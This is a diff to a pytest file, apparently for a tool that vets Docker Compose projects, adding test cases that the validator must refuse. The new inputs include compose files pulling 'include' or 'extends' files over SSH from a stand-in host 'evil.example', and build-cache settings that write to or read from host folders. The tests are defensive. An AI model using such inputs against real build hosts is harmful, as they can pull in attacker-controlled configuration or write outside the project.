@@ -9,7 +9,7 @@ from types import ModuleType
 
 import pytest
 
-from switchyard.control import commit_files, completeness, compose
+from switchyard.control import commit_files, completeness, compose, compose_reads
 from switchyard.control.commit_files import export
 from switchyard.core.app import App
 from switchyard.core.dockerfile import Copy
@@ -159,6 +159,35 @@ COMPOSE = [
 ]
 
 
+def foreign(name: str, text: str, honest: str) -> Attack:
+    """Build an attack by an address at which Compose, in its newer versions, looks for a compose file."""
+
+    def passes(text: str) -> Callable[[Path], bool]:
+        def gets_through(folder: Path) -> bool:
+            top = lay(folder, {"compose.yaml": text, "own.yaml": "services: {e: {image: x}}\n"})
+            try:
+                compose.refuse_foreign_reads(top, App("shop"), {})
+            except BadInput:
+                return False
+            return True
+
+        return gets_through
+
+    return Attack(
+        name,
+        passes(text),
+        passes(honest),
+        lambda monkeypatch: monkeypatch.setattr(compose_reads, "_is_remote", lambda text: False),
+    )
+
+
+FOREIGN = [
+    foreign("include by SSH", "include: ['me@evil.example:a.git']\n", "include: [own.yaml]\n"),
+    foreign("include by SSH of a branch", "include: ['a-b@10.0.0.1:x/y#main:c.yaml']\n", "include: ['./own.yaml']\n"),
+    foreign("extends by SSH", service("extends: {file: 'me@evil:a.git', service: e}"), EXTENDS),
+]
+
+
 def built(name: str, build: str, honest: str = "{context: web}", more: Files | None = None) -> Attack:
     """Build an attack by what the host would build from, or where it would keep a cache."""
     files = {
@@ -225,6 +254,22 @@ BUILDS = [
         "{context: web, cache_from: [x]}",
     ),
     built("cache kept in a folder", "{context: web, cache_to: ['type=local,dest=/x']}"),
+    *(
+        built(
+            f"cache by {entry}", f"{{context: web, cache_to: ['{entry}']}}", f"{{context: web, cache_to: [{honest}]}}"
+        )
+        for entry, honest in (
+            ("Type=local,dest=/x", "'type=registry,ref=x'"),
+            ('"type=local",dest=/x', "'type=inline'"),
+            ("dest=/x,TYPE=local", "'ref=x,type=registry'"),
+            ("type=s3,bucket=x", "x"),
+        )
+    ),
+    built(
+        "cache taken by TYPE",
+        "{context: web, cache_from: ['TYPE=local,src=/x']}",
+        "{context: web, cache_from: ['a:1']}",
+    ),
 ]
 
 
@@ -479,5 +524,5 @@ WORK_TREE = [
     ),
 ]
 test_refused, test_twin, test_defence = promises(
-    [*COMPOSE, *BUILDS, *MOUNTS, *COPIES, *ABOVE, *EXPORTS, *PATTERNS, *WORK_TREE]
+    [*COMPOSE, *FOREIGN, *BUILDS, *MOUNTS, *COPIES, *ABOVE, *EXPORTS, *PATTERNS, *WORK_TREE]
 )
